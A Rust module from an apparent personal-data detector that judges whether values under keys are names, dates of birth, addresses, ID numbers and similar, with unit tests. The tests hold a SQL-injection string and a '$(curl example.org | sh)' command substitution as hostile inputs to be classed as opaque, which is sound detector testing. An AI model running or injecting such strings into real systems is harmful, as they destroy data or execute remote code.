//! Decides whether a value is what its key says.
//!
//! In: the meaning of a key and the text of its value, either the value alone or a text that begins with it. Out:
//! which part of the text is the value, and of what category. Keys decide alone for people, birth dates, passwords
//! and secrets, with a length cap and rules of sense; the other kinds must also look the part. Invariant: a look
//! is bounded by `MAX_VALUE_BYTES`. Not here: finding keys (`keys`, `structure`), check digits (`recognise`).

use cloakgate_vocab::{Category, Span};

use crate::birth::{self, date_prefix};
use crate::canonical::stands_alone;
use crate::credentials;
use crate::hints::Hints;
use crate::ids::{digits_prefix, id_prefix, plate_prefix};
use crate::keys::{self, Meaning};
use crate::people::{self, Letters, name_prefix, reversed_prefix};
use crate::placeholder::is_placeholder;
use crate::recognise::{Bar, is_shaped, kind_of};
use crate::{vocabulary, work};

mod postal;

/// Longest value, in bytes, that a key decides about alone.
pub(crate) const MAX_VALUE_BYTES: usize = 200;

/// Most bytes that are read of a text that only begins with its value.
pub(crate) const MAX_LOOK_BYTES: usize = 256;

/// Hyphens of a word that is no name of a person, but of a part of a program.
const MIN_HYPHENS: usize = 3;

/// How a value stands to its key.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Extent {
    /// The text is the value: a JSON string, a quoted value, a cell.
    Whole,
    /// The text begins with the value, after a colon, equals sign or tag.
    Open,
    /// The text begins with the value, after a verb: `password is ...`.
    Verb,
    /// The text begins with the value, after a blank alone.
    Blank,
}

/// What a value is, and which part of the text it is.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) struct Verdict {
    /// Part of the text.
    pub(crate) span: Span,
    /// Its kind.
    pub(crate) category: Category,
    /// Name of the rule.
    pub(crate) rule: &'static str,
}

/// The first `len` bytes, as a verdict; nothing when there are none.
pub(crate) fn verdict(len: usize, category: Category, rule: &'static str) -> Option<Verdict> {
    (len > 0).then(|| Verdict { span: Span::sized(0, len), category, rule })
}

/// Judges the value under a key. Blanks around the value are not part of it.
pub(crate) fn judge(meaning: Meaning, text: &str, extent: Extent, hints: Hints) -> Option<Verdict> {
    let start = text.len() - text.trim_start().len();
    let value = if extent == Extent::Whole { text.trim() } else { head(text.get(start..)?) };
    work::count(value.len());
    let cap = if credentials::has_long(meaning) { credentials::MAX_SECRET_BYTES } else { MAX_VALUE_BYTES };
    if value.is_empty() || (extent == Extent::Whole && (value.len() > cap || is_placeholder(value))) {
        return None;
    }
    let mut found = match meaning {
        Meaning::RecordName | Meaning::FormattedName
            if extent != Extent::Whole || !people::is_written_as_name(value) =>
        {
            None
        }
        Meaning::FullName
        | Meaning::NamePart
        | Meaning::RecordName
        | Meaning::FormattedName
        | Meaning::Role
        | Meaning::Name => {
            person(meaning, value, extent, hints).or_else(|| account(meaning, value, extent, hints))
        }
        Meaning::Correspondent => {
            let named =
                people::is_written_as_name(value) && (value.contains(' ') || people::is_unspaced_name(value));
            (named && hints.message_like()).then(|| whole_person(Meaning::Role, value, hints)).flatten()
        }
        Meaning::Birth => birth(value, extent),
        _ if credentials::is_credential(meaning) => credentials::judge(meaning, value, extent),
        // `"userName": "Rita Roca"`
        Meaning::Username
            if extent == Extent::Whole
                && (people::is_unspaced_name(value)
                    || (value.contains(' ') && people::is_written_as_name(value)))
                && !vocabulary::is_phrase(value) =>
        {
            whole_person(Meaning::FullName, value, hints)
        }
        Meaning::Username => credentials::paired_password(value, credentials::Pair::Slash)
            .or_else(|| plain(meaning, value, extent)),
        Meaning::Email => spelt_email(value, extent),
        Meaning::LivesAt if extent != Extent::Whole => {
            postal::street(Meaning::LivesAt, value, Extent::Open, hints)
        }
        Meaning::Street | Meaning::AnyAddress | Meaning::AddressLine => {
            postal::street(meaning, value, extent, hints)
        }
        Meaning::OwnName => own_name(value, extent),
        Meaning::Surname => surname(value, extent, hints),
        Meaning::PostCode => postal::post_code(value, extent),
        Meaning::ShortPostCode => postal::short_post_code(value, extent),
        Meaning::Ssn => number(meaning, value, extent).or_else(|| number(Meaning::AnyId, value, extent)),
        Meaning::Wallet => wallet(value),
        Meaning::Mac => hardware_address(value),
        Meaning::BareId => bare_id(value, extent, hints),
        _ => number(meaning, value, extent).or_else(|| plain(meaning, value, extent)),
    }?;
    found.span = found.span.shifted(start);
    Some(found)
}

/// As much of a text as is read.
fn head(text: &str) -> &str {
    text.get(..text.floor_char_boundary(MAX_LOOK_BYTES)).unwrap_or_default()
}

fn person(meaning: Meaning, value: &str, extent: Extent, hints: Hints) -> Option<Verdict> {
    match extent {
        Extent::Whole => {
            whole_person(meaning, value, hints).or_else(|| remarked_person(meaning, value, hints))
        }
        Extent::Open => {
            let len = match reversed_prefix(value) {
                Some(len) => len,
                None if meaning == Meaning::NamePart && single_character(value) => {
                    value.chars().next().map_or(0, char::len_utf8)
                }
                None => {
                    let name = name_prefix(value, Letters::Capitals)?;
                    let single = name.words == 1 && !(name.uncased && value.chars().count() >= 2);
                    // a bare `name` waits for what else the record holds
                    if single && !matches!(meaning, Meaning::NamePart | Meaning::Name) {
                        return None;
                    }
                    // `{FirstName:Rita LastName:Roca}`
                    if value.get(name.len..)?.starts_with([':', '='])
                        && let Some(next) = keys::phrase_ending(value, name.len).filter(|next| next.start > 0)
                    {
                        let len = value.get(..next.start)?.trim_end().len();
                        return verdict(len, Category::Person, "key.person")
                            .filter(|_| meaning != Meaning::Name);
                    }
                    // `name: Foo(bar)`, `author: Foo::Bar` are code.
                    let after = value.get(name.len..)?;
                    if after.starts_with(['(', '[', '{', '_', '/', '\\', '=', '$']) || after.starts_with("::")
                    {
                        return None;
                    }
                    name.len
                }
            };
            // `Contact: Customer Service`, `author: Added in v2`, `Customer: Acme GmbH`.
            let name = value.get(..len)?;
            if vocabulary::is_phrase(name) || people::is_organisation(name) || keys::is_label(name) {
                return None;
            }
            (meaning != Meaning::Name || hints.person_like())
                .then(|| verdict(len, Category::Person, "key.person"))
                .flatten()
        }
        Extent::Verb | Extent::Blank => {
            let name = name_prefix(value, Letters::Capitals).filter(|name| name.words >= 2)?;
            (meaning == Meaning::FullName)
                .then(|| verdict(name.len, Category::Person, "key.person"))
                .flatten()
        }
    }
}

/// `my name is Marie`, `ich heiße Marie Dubois`.
fn own_name(value: &str, extent: Extent) -> Option<Verdict> {
    if extent == Extent::Whole {
        return whole_person(Meaning::FullName, value, Hints::default());
    }
    let name = name_prefix(value, Letters::Capitals)?;
    let written = value.get(..name.len)?;
    let after = value.get(name.len..)?;
    let code = after.starts_with(['(', '[', '{', '_', '/', '\\', '=', '$', '@']);
    (!code && !vocabulary::is_phrase(written) && !people::is_organisation(written))
        .then(|| verdict(name.len, Category::Person, "key.person"))
        .flatten()
}

/// `sn: Dubois`: the surname of a directory, which is the name of a serial number too.
fn surname(value: &str, extent: Extent, hints: Hints) -> Option<Verdict> {
    (extent == Extent::Whole && hints.person_like() && value.chars().all(|c| !c.is_numeric()))
        .then(|| whole_person(Meaning::NamePart, value, hints))
        .flatten()
}

/// `李` on a line of its own.
fn single_character(value: &str) -> bool {
    let mut chars = value.chars();
    chars.next().is_some_and(stands_alone)
        && chars.next().is_none_or(|c| matches!(c, '\n' | '\r' | ' ' | '<' | '|' | ','))
}

fn whole_person(meaning: Meaning, value: &str, hints: Hints) -> Option<Verdict> {
    if people::is_no_value(value)
        || keys::is_label(value)
        || (meaning == Meaning::Name && !hints.person_like())
    {
        return None;
    }
    // `Microsoft-Windows-Security-Auditing`
    if !value.contains(' ') && value.bytes().filter(|byte| *byte == b'-').count() >= MIN_HYPHENS {
        return None;
    }
    let named = matches!(meaning, Meaning::FullName | Meaning::NamePart);
    if people::is_safe_name(value) {
        // `H.-Dieter` and `J.R.` are names, `user.name` is none
        let dotted = !value.contains(' ') && value.trim_end_matches('.').replace(".-", "-").contains('.');
        let written = people::is_written_as_name(value) && value.chars().count() > 2;
        // `Will May` is a name, `not to be named` and `See the Notes of It` are none.
        let words = value.split(' ').count();
        let sentence =
            (!written || words > 2) && value.split(' ').filter(|word| people::is_no_name(word)).count() > 1;
        if meaning != Meaning::NamePart && people::is_organisation(value) {
            return None;
        }
        // `givenName: "givenName"`, `client_name: "Simple Client"`.
        let title = vocabulary::is_phrase(value) && (value.contains(' ') || !written);
        // `JoAnn` and `LaToya` are names.
        let code = vocabulary::is_identifier(value)
            && (value.contains('_') || value.starts_with(people::is_small) || vocabulary::is_wordy(value));
        if code || (named && title) {
            return None;
        }
        let likely = named || people::is_unspaced_name(value) || (written && !vocabulary::is_phrase(value));
        return (likely && !dotted && !sentence)
            .then(|| verdict(value.len(), Category::Person, "key.person"))
            .flatten();
    }
    if value.contains('@') || value.contains("://") || value.contains('\n') {
        return None;
    }
    // `octocat/Hello-World` and `com.example.App` are names of things, and open to see.
    let identifier = !value.contains(' ');
    // `Python 3`, `Windows 11`: a thing with its version
    let last = value.rsplit(' ').next().unwrap_or_default();
    if last.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.') {
        return None;
    }
    let armed = value.contains(['\'', '"', ';', '$', '`', '|', '<', '>', '{', '}', '\\']);
    ((named || armed) && !identifier).then(|| verdict(value.len(), Category::Opaque, "key.opaque")).flatten()
}

/// `Marie Dubois (Marie)`, `Marie Dubois (she/her)`: a name with a remark, which counts when it is a name too.
fn remarked_person(meaning: Meaning, value: &str, hints: Hints) -> Option<Verdict> {
    let (name, remark) = value.strip_suffix(')')?.split_once(" (")?;
    let found = whole_person(meaning, name, hints).filter(|found| found.category == Category::Person)?;
    let second = people::is_safe_name(remark)
        && people::is_written_as_name(remark)
        && name.split(' ').any(|word| remark.split(' ').any(|other| other == word))
        || people::is_unspaced_name(remark);
    Some(if second { Verdict { span: Span::sized(0, value.len() - 1), ..found } } else { found })
}

/// `{"real_name": "Marie Dubois", "name": "mdubois"}`: the name of an account.
fn account(meaning: Meaning, value: &str, extent: Extent, hints: Hints) -> Option<Verdict> {
    let handle = value.starts_with(|c: char| c.is_ascii_lowercase())
        && value
            .bytes()
            .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"._-".contains(&byte));
    (meaning == Meaning::Name
        && extent == Extent::Whole
        && hints.has_full_name()
        && handle
        && value.len() <= 32)
        .then(|| verdict(value.len(), Category::Username, "key.handle"))
        .flatten()
}

fn birth(value: &str, extent: Extent) -> Option<Verdict> {
    let start = if extent == Extent::Whole { 0 } else { birth::after_place(value) };
    let value = value.get(start..)?;
    let year = (extent == Extent::Whole).then(|| birth::year(value)).flatten();
    let call = || (extent == Extent::Open).then(|| birth::arguments(value)).flatten();
    if extent == Extent::Whole
        && let Some(found) = printed_call(value)
    {
        return Some(found);
    }
    let len = date_prefix(value).map(|date| date.len).or(year).or_else(call)?;
    let rest = value.get(len..)?;
    let time = rest.is_empty() || rest.starts_with(['T', ' ', 't', ',', '(']);
    let mut found = (extent != Extent::Whole || time)
        .then(|| verdict(len, Category::DateOfBirth, "key.birth"))
        .flatten()?;
    found.span = found.span.shifted(start);
    Some(found)
}

/// `datetime.date(1984, 3, 12)`: a call that a program printed as the value.
fn printed_call(value: &str) -> Option<Verdict> {
    let (name, arguments) = value.split_once('(')?;
    let called = name.len() <= 32 && name.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'.');
    let len = birth::arguments(arguments).filter(|_| called && value.ends_with(')'))?;
    let mut found = verdict(len, Category::DateOfBirth, "key.birth")?;
    found.span = found.span.shifted(name.len() + 1);
    Some(found)
}

/// `marie at example dot org`, under a key that says mail.
fn spelt_email(value: &str, extent: Extent) -> Option<Verdict> {
    // Most values under such keys are addresses as they are written everywhere.
    if extent != Extent::Whole || !value.contains([' ', '(', '[']) {
        return None;
    }
    let lower = value.to_lowercase();
    let at = [" at ", "(at)", "[at]", " @ "].iter().any(|sign| lower.contains(sign));
    let dot = [" dot ", "(dot)", "[dot]", "."].iter().any(|sign| lower.contains(sign));
    (at && dot && value.split(' ').count() <= 7)
        .then(|| verdict(value.len(), Category::Email, "key.email"))
        .flatten()
}

/// Kinds that are numbers, or letters and digits.
fn number(meaning: Meaning, value: &str, extent: Extent) -> Option<Verdict> {
    let (category, rule, digits) = match meaning {
        Meaning::Phone => (Category::Phone, "key.phone", 6..=17),
        Meaning::Card => (Category::CreditCard, "key.card", 12..=19),
        Meaning::Ssn => (Category::Ssn, "key.ssn", 9..=9),
        Meaning::Iban => (Category::Iban, "key.iban", 10..=32),
        Meaning::NationalId | Meaning::AnyId => (Category::NationalId, "key.national_id", 5..=20),
        Meaning::TaxId | Meaning::AnyTax => (Category::TaxId, "key.tax_id", 6..=18),
        Meaning::Rfc => (Category::TaxId, "key.tax_id", 6..=9),
        Meaning::Passport => (Category::Passport, "key.passport", 4..=12),
        Meaning::DriverLicense => (Category::DriverLicense, "key.driver_license", 4..=18),
        Meaning::HealthId => (Category::HealthId, "key.health_id", 4..=20),
        Meaning::OtherId => (Category::OtherId, "key.other_id", 3..=20),
        Meaning::BankAccount => (Category::BankAccount, "key.account", 5..=28),
        Meaning::Vehicle => (Category::Vehicle, "key.vehicle", 2..=17),
        _ => return None,
    };
    if meaning == Meaning::Vehicle
        && matches!(extent, Extent::Whole | Extent::Open)
        && let Some(len) = plate_prefix(value)
        && (extent == Extent::Open || len == value.len())
    {
        return verdict(len, category, rule);
    }
    if meaning == Meaning::Card
        && let Some(found) = lettered_account(value, extent)
    {
        return Some(found);
    }
    let plain_number = matches!(meaning, Meaning::Phone | Meaning::Card | Meaning::Ssn);
    if plain_number && matches!(extent, Extent::Blank | Extent::Verb) {
        // The recogniser for the kind decides there, with the cue.
        return None;
    }
    if meaning == Meaning::BankAccount && is_sort_code(value) {
        return verdict(SORT_CODE_BYTES, category, rule);
    }
    let id = if plain_number { digits_prefix(value) } else { id_prefix(value) }?;
    let whole = extent != Extent::Whole || id.start + id.len == value.len();
    // Without a mark between, words such as `insurance` and `konto` stand before many numbers.
    let least = if extent == Extent::Blank { (*digits.start()).max(5) } else { *digits.start() };
    let written = value.get(id.start..id.start + id.len).unwrap_or_default();
    let national = matches!(category, Category::NationalId | Category::HealthId | Category::TaxId);
    let shaped =
        || national && if extent == Extent::Blank { is_of_paper(written) } else { is_shaped(written) };
    if !whole || id.digits > *digits.end() || (id.digits < least && !shaped()) {
        return None;
    }
    // `RFC 2373` is a standard; the Mexican number begins with three or four letters.
    let letters = value.get(id.start..)?.chars().take_while(char::is_ascii_uppercase).count();
    if meaning == Meaning::Rfc && !(3..=4).contains(&letters) {
        return None;
    }
    if matches!(meaning, Meaning::Iban)
        && !value.get(id.start..)?.chars().take(2).all(|c| c.is_ascii_alphabetic())
    {
        return None;
    }
    let category = match meaning {
        Meaning::AnyId => kind_of(written, None, Bar::Any).map_or(category, |kind| kind.category),
        Meaning::AnyTax => {
            kind_of(written, Some(category), Bar::Strong).map_or(category, |kind| kind.category)
        }
        _ => category,
    };
    let mut found = verdict(id.len, category, rule)?;
    found.span = found.span.shifted(id.start);
    Some(found)
}

/// `L6VT89J8P`: eight to twelve capitals and digits, as papers are numbered.
fn is_of_paper(written: &str) -> bool {
    let count = |test: fn(&u8) -> bool| written.bytes().filter(test).count();
    (8..=12).contains(&written.len())
        && count(u8::is_ascii_uppercase) + count(u8::is_ascii_digit) == written.len()
        && count(u8::is_ascii_digit) >= 3
        && count(u8::is_ascii_uppercase) > 0
}

/// Length of a sort code.
const SORT_CODE_BYTES: usize = "20-07-25".len();

/// `20-07-25`: the sort code of a British bank.
fn is_sort_code(value: &str) -> bool {
    let form = |(place, byte): (usize, u8)| if place % 3 == 2 { byte == b'-' } else { byte.is_ascii_digit() };
    value.get(..SORT_CODE_BYTES).is_some_and(|code| code.bytes().enumerate().all(form))
        && !value
            .get(SORT_CODE_BYTES..)
            .is_some_and(|rest| rest.starts_with(|c: char| c.is_alphanumeric() || c == '-'))
}

/// `PAN: ABCPE1234F`: the tax number of India, whose name cards have too.
fn lettered_account(value: &str, extent: Extent) -> Option<Verdict> {
    let id = id_prefix(value)?;
    let whole = extent != Extent::Whole || id.start + id.len == value.len();
    let written = value.get(id.start..id.start + id.len)?;
    let lettered = written.bytes().take_while(u8::is_ascii_uppercase).count() == 5;
    let kind = kind_of(written, Some(Category::TaxId), Bar::Any).filter(|_| whole && lettered)?;
    let mut found = verdict(id.len, kind.category, "key.tax_id")?;
    found.span = found.span.shifted(id.start);
    Some(found)
}

/// Addresses without a check, which only their key tells from keys and hashes: base58 of 32 bytes, or of Monero.
fn wallet(value: &str) -> Option<Verdict> {
    let len = value.bytes().take_while(u8::is_ascii_alphanumeric).count();
    let word = value.get(..len)?;
    let any = |test: fn(&u8) -> bool| word.bytes().any(|byte| test(&byte));
    let mixed = any(u8::is_ascii_digit) && any(u8::is_ascii_uppercase) && any(u8::is_ascii_lowercase);
    let alphabet = !word.contains(['0', 'O', 'I', 'l']);
    (alphabet && mixed && matches!(len, 32..=44 | 95 | 106))
        .then(|| verdict(len, Category::CryptoWallet, "key.wallet"))
        .flatten()
}

/// `11-85-62-64-39-91`: six pairs of digits, which only a key tells from a date or a number.
fn hardware_address(value: &str) -> Option<Verdict> {
    let word = value.get(..17)?;
    let pairs = word
        .split(['-', ':'])
        .all(|pair| pair.len() == 2 && pair.bytes().all(|byte| byte.is_ascii_hexdigit()));
    let ends = !value.get(17..)?.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '-' | ':'));
    (pairs && ends).then(|| verdict(17, Category::MacAddress, "key.mac")).flatten()
}

/// A value under `id`: a check proves what it is, or its letters do where nothing but a name stands beside it.
fn bare_id(value: &str, extent: Extent, hints: Hints) -> Option<Verdict> {
    let id = id_prefix(value).filter(|id| id.start == 0 && id.len == value.len())?;
    if extent != Extent::Whole || !(hints.named() || hints.placed()) || id.digits < 6 {
        return None;
    }
    let bar = if hints.named_pair() { Bar::Any } else { Bar::Strong };
    let category = match kind_of(value, None, bar) {
        Some(kind) => kind.category,
        None if hints.named_pair() && is_shaped(value) => Category::NationalId,
        None => return None,
    };
    verdict(value.len(), category, "key.id")
}

/// Kinds that are off unless a setting turns them on: the key decides about short values.
fn plain(meaning: Meaning, value: &str, extent: Extent) -> Option<Verdict> {
    let (category, rule) = match meaning {
        Meaning::City => (Category::Location, "key.location"),
        Meaning::Org => (Category::Org, "key.organisation"),
        Meaning::Age => (Category::Age, "key.age"),
        Meaning::Gender => (Category::Gender, "key.gender"),
        Meaning::Weight => (Category::Weight, "key.weight"),
        Meaning::Money | Meaning::Amount => (Category::Money, "key.money"),
        Meaning::Medical => (Category::Medical, "key.medical"),
        Meaning::Username => (Category::Username, "key.username"),
        Meaning::Nrp => (Category::Nrp, "key.group"),
        Meaning::Title => (Category::Title, "key.title"),
        Meaning::Profession => (Category::Profession, "key.profession"),
        _ => return None,
    };
    let digits = value.bytes().filter(u8::is_ascii_digit).count();
    let sensible = match meaning {
        Meaning::Amount => is_amount(value),
        Meaning::Money | Meaning::Weight => digits > 0,
        Meaning::Age => (1..=3).contains(&digits) && value.len() <= 24 && !is_running_time(value),
        // `DE` says little, and is how machines write it.
        Meaning::City => value.len() > 3 || !value.bytes().all(|byte| byte.is_ascii_uppercase()),
        _ => true,
    };
    let short =
        sensible && value.len() <= 80 && !value.contains('\n') && value.chars().any(char::is_alphanumeric);
    if extent == Extent::Open && meaning == Meaning::Username {
        return account_name(value);
    }
    (extent == Extent::Whole && short).then(|| verdict(value.len(), category, rule)).flatten()
}

/// `3d`, `5h12m`: how long a program runs.
fn is_running_time(value: &str) -> bool {
    value.bytes().all(|byte| byte.is_ascii_digit() || b"dhms".contains(&byte))
        && value.ends_with(|c: char| c.is_ascii_alphabetic())
}

/// `username: marie.d`: one word, with nothing of code in it.
fn account_name(value: &str) -> Option<Verdict> {
    let len = value.find(|c: char| c.is_whitespace() || ",;&|\"'".contains(c)).unwrap_or(value.len());
    let word = value.get(..len)?.trim_end_matches('.');
    let written = word.chars().all(|c| c.is_alphanumeric() || "._-@+".contains(c))
        && word.chars().any(char::is_alphabetic)
        && (2..=40).contains(&word.len());
    let said = value.get(len..)?.starts_with(' ') && !word.contains(|c: char| !c.is_alphabetic());
    let common = vocabulary::is_common(word) || is_placeholder(word) || people::is_no_value(word);
    (written && !said && !common).then(|| verdict(word.len(), Category::Username, "key.username")).flatten()
}

/// `1411.95`, `$1,411`, `EUR 20`: an amount with decimals or a currency.
fn is_amount(value: &str) -> bool {
    let decimals = value
        .rsplit_once(['.', ','])
        .is_some_and(|(_, cents)| cents.len() == 2 && cents.bytes().all(|byte| byte.is_ascii_digit()));
    let marks =
        value.chars().filter(|c| !c.is_ascii_digit() && !matches!(c, '.' | ',' | ' ' | '-' | '\'')).count();
    value.bytes().any(|byte| byte.is_ascii_digit()) && ((decimals && marks <= 4) || (1..=4).contains(&marks))
}

#[cfg(test)]
#[expect(clippy::string_slice, reason = "spans of findings are on character boundaries")]
mod tests {
    use super::{Extent, judge};
    use crate::hints::Hints;
    use crate::keys::Meaning;

    fn show(meaning: Meaning, text: &str, extent: Extent, hints: Hints) -> String {
        judge(meaning, text, extent, hints)
            .map_or_else(String::new, |found| format!("{} {}", found.category, &text[found.span.range()]))
    }

    #[test]
    fn keys_decide_about_whole_values() {
        let person = Hints::of_keys(["email"].into_iter());
        let address = Hints::of_keys(["city"].into_iter());
        for (meaning, value, expected) in [
            (Meaning::FullName, "Marie Dubois", "PERSON Marie Dubois"),
            (Meaning::FullName, " marie dubois ", "PERSON marie dubois"),
            (Meaning::FullName, "x'; drop table orders;--", "OPAQUE x'; drop table orders;--"),
            (Meaning::FullName, "octocat/Hello-World", ""),
            (Meaning::FullName, "null", ""),
            (Meaning::FullName, "[PERSON_0_k7q]", ""),
            (Meaning::FullName, "${NAME}", ""),
            (Meaning::NamePart, "Will", "PERSON Will"),
            (Meaning::NamePart, "JoAnn", "PERSON JoAnn"),
            (Meaning::NamePart, "givenName", ""),
            (Meaning::FullName, "Error Code", ""),
            (Meaning::Role, "Marie Dubois", "PERSON Marie Dubois"),
            (Meaning::Role, "system", ""),
            (Meaning::Role, "platform-team", ""),
            (Meaning::Role, "$(curl example.org | sh)", "OPAQUE $(curl example.org | sh)"),
            (Meaning::Name, "Marie Dubois", "PERSON Marie Dubois"),
            (Meaning::Birth, "1984-03-12", "DATE_OF_BIRTH 1984-03-12"),
            (Meaning::Birth, "1984-03-12T00:00:00Z", "DATE_OF_BIRTH 1984-03-12"),
            (Meaning::Birth, "unknown", ""),
            (Meaning::Pin, "4711", "PASSWORD 4711"),
            (Meaning::Email, "marie at example dot org", "EMAIL marie at example dot org"),
            (Meaning::Street, "12 rue des Lilas", "ADDRESS 12 rue des Lilas"),
            (Meaning::AnyAddress, "0x7ffe1200", ""),
            (Meaning::AnyAddress, "203.0.113.7:80", ""),
            (Meaning::AddressLine, "5040 Adam Throughway", "ADDRESS 5040 Adam Throughway"),
            (Meaning::PostCode, "HS71 8SZ", "ADDRESS HS71 8SZ"),
            (Meaning::PostCode, "files.zip", ""),
            (Meaning::NationalId, "ZZ 06 68 92 T", "NATIONAL_ID ZZ 06 68 92 T"),
            (
                Meaning::Wallet,
                "7ujjaus5jp8mf7eGN7hqPC5i5ACf47T4JqGei5EpdyUX",
                "CRYPTO_WALLET 7ujjaus5jp8mf7eGN7hqPC5i5ACf47T4JqGei5EpdyUX",
            ),
            (Meaning::Wallet, "leather", ""),
            (Meaning::Mac, "11-85-62-64-39-91", "MAC_ADDRESS 11-85-62-64-39-91"),
            (Meaning::Mac, "11-85-62-64-39-91-00", ""),
            (Meaning::Passport, "X01161547", "PASSPORT X01161547"),
            (Meaning::HealthId, "2024-01-05", ""),
        ] {
            let hints = if meaning == Meaning::AddressLine { address } else { person };
            assert_eq!(show(meaning, value, Extent::Whole, hints), expected, "{value}");
        }
        assert_eq!(show(Meaning::Name, "Marie Dubois", Extent::Whole, Hints::default()), "");
    }

    #[test]
    fn values_in_text_end_where_their_kind_ends() {
        for (meaning, text, extent, expected) in [
            (Meaning::FullName, "CASTRO, Matthew   MRN: 4", Extent::Open, "PERSON CASTRO, Matthew"),
            (Meaning::Role, "Marie Dubois, see below", Extent::Open, "PERSON Marie Dubois"),
            (Meaning::Role, "see the docs", Extent::Open, ""),
            (Meaning::FullName, "String(format)", Extent::Open, ""),
            (Meaning::NationalId, "972631458 and", Extent::Blank, "NATIONAL_ID 972631458"),
            (Meaning::HealthId, "AHC-0933289 and insurance", Extent::Blank, "HEALTH_ID AHC-0933289"),
            (
                Meaning::Street,
                "5 Elm Street Apt. 9, Lyon. Next",
                Extent::Open,
                "ADDRESS 5 Elm Street Apt. 9, Lyon",
            ),
            (Meaning::Birth, "07/21/1942   SEX: F", Extent::Open, "DATE_OF_BIRTH 07/21/1942"),
        ] {
            assert_eq!(show(meaning, text, extent, Hints::default()), expected, "{text}");
        }
    }
}
